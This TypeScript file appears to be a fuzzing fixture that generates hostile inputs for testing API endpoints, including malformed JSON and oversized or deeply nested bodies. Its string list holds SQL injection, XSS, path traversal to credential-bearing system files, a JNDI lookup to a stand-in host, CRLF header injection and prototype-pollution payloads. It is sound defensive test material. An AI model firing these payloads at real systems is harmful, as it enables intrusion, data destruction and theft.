import fc from 'fast-check';

/**
 * Hostile values for the endpoint fuzzer: what clients, scanners and attackers actually send. Each is cheap to
 * generate (long strings are built by repeat, not drawn character by character), so many runs fit in seconds.
 */

/** Strings that have broken parsers, databases, renderers and log pipelines somewhere. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u202Eevil\u202C', // RTL override
  '\u200B\u200D\uFEFF', // zero-width characters and a BOM
  '𠮷野家', // outside the BMP
  '👩‍👩‍👧‍👦🇨🇳',
  'ǅ̴̡̛̟̘͍͙̳̮̺̟̬͓͚̰͊̍̈́̑̄̔̉̿̈́͛̉̊̓̈́̕͝', // combining marks
  '\uD800', // a lone surrogate
  'Ａｂｃ１２３', // full-width
  "' OR '1'='1",
  "'; DROP TABLE cases; --",
  '1; SELECT * FROM api_keys',
  '" OR ""="',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  '%00',
  '%',
  '${jndi:ldap://x.test/a}',
  '{{7*7}}',
  '%s%s%s%n',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x1F',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  'prototype',
  '\r\nX-Injected: 1',
  '\t\n\v\f\r',
  '11010519491231002X',
  '13812345678',
  '2026-02-30',
  '2026-11-28T25:61:61Z',
  '9999-12-31',
  '0000-00-00',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  // Long, over most fields' limits, and now and then over the 64 KiB body limit.
  { weight: 1, arbitrary: fc.constantFrom(200, 1_000, 5_000, 70_000).map((n) => '字'.repeat(n)) },
);

/** Numbers a JSON body can carry that fields rarely expect. */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -1, -0, 0.5, 1e308, -1e308, 2 ** 53 + 1, -(2 ** 31), 2 ** 32, 5e-324, 1e21),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

/** An array or object nested `depth` deep: parsers and validators that recurse meet their limit. */
const nested = (depth: number, leaf: unknown, asArray: boolean): unknown => {
  let value = leaf;
  for (let i = 0; i < depth; i++) value = asArray ? [value] : { a: value };
  return value;
};

export const deepValue: fc.Arbitrary<unknown> = fc
  .tuple(fc.constantFrom(50, 500, 3_000), fc.boolean())
  .map(([depth, asArray]) => nested(depth, 'x', asArray));

/** Any hostile JSON value: scalars of the wrong kind, odd containers, deep nesting, prototype keys. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.constant([]) },
  { weight: 1, arbitrary: fc.constant({}) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom(2_000, 20_000).map((n) => Array.from({ length: n }, () => 1)) },
  { weight: 1, arbitrary: deepValue },
  { weight: 1, arbitrary: fc.constant(JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{"x":1}}}')) },
);

/** A body sent as raw text, possibly under the wrong media type. */
export interface RawBody {
  readonly text: string;
  readonly contentType: string;
}

/**
 * Bodies that are not what the route reads: broken JSON, JSON of the wrong kind, a huge number literal, deep
 * brackets, duplicate keys (the last wins in JSON.parse; the first in some proxies), and JSON under another
 * media type. `example` is a valid body of the route, so the wrong media type carries plausible content.
 */
export const rawBody = (example: unknown): fc.Arbitrary<RawBody> => {
  const json = JSON.stringify(example ?? {});
  const asJson = (text: string): RawBody => ({ text, contentType: 'application/json' });
  return fc.oneof(
    fc.constantFrom(
      asJson(''),
      asJson('{'),
      asJson('{"a":'),
      asJson('not json'),
      asJson('\u0000'),
      asJson('\uFEFF{}'),
      asJson('null'),
      asJson('[]'),
      asJson('"text"'),
      asJson('42'),
      asJson(`1${'0'.repeat(400)}`),
      asJson('['.repeat(20_000)),
      asJson(`{"x":${'['.repeat(5_000)}${']'.repeat(5_000)}}`),
    ),
    fc.tuple(fc.string({ maxLength: 12 }), hostileValue).map(([key, value]) => {
      // Duplicate keys: every key of the example given twice, the second time hostile.
      const body = example && typeof example === 'object' && !Array.isArray(example) ? (example as Record<string, unknown>) : { [key]: 1 };
      const pairs = Object.entries(body).flatMap(([k, v]) => [`${JSON.stringify(k)}:${JSON.stringify(v)}`, `${JSON.stringify(k)}:${JSON.stringify(value) ?? 'null'}`]);
      return asJson(`{${pairs.join(',')}}`);
    }),
    fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/json; charset=utf-16', '').map((contentType) => ({ text: json, contentType })),
  );
};

/**
 * Text safe to put in a URL path segment or header: encodeURIComponent throws on a lone surrogate, and a header
 * value must be Latin-1 without line breaks (the platform refuses others before the worker sees them).
 */
export const encodeSegment = (text: string): string => encodeURIComponent(text.replace(/[\uD800-\uDFFF]/g, '\uFFFD'));
export const headerSafe = (text: string): string => text.replace(/[^\x20-\x7E]/g, '?');
